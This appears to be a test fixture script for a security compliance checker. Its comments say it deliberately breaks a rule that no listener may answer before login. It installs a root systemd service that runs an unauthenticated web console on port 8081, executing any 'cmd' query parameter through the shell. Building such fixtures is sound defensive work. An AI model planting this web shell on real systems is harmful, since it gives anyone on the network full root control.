# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.1
# how: a web console that runs commands as root for everybody, at another path than /
# asserts: no listener gives a prompt or output before a login
# also: CR_2_1_RE_1_services_hold_no_more_than_declared: its unit is not declared either
set -eu
cat >/usr/libexec/field-service <<'P'
import http.server, subprocess, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        if u.path != '/console':
            self.send_response(302); self.send_header('Location', '/console'); self.end_headers(); return
        q = urllib.parse.parse_qs(u.query)
        out = subprocess.run(q['cmd'][0], shell=True, capture_output=True, text=True).stdout if 'cmd' in q else ''
        self.send_response(200); self.send_header('Content-Type', 'text/html'); self.end_headers()
        self.wfile.write(('<h1>Pump 7</h1><form>Command <input name=cmd></form><pre>%s</pre>' % out).encode())
http.server.HTTPServer(('0.0.0.0', 8081), H).serve_forever()
P
chmod 0755 /usr/libexec/field-service
printf '[Service]\nExecStart=/usr/bin/python3 /usr/libexec/field-service\n' >/etc/systemd/system/field.service
systemctl daemon-reload
systemctl start field.service
for _ in 1 2 3 4 5 6 7 8 9 10; do grep -q ':1F91 ' /proc/net/tcp && break; sleep 1; done
grep -q ':1F91 ' /proc/net/tcp
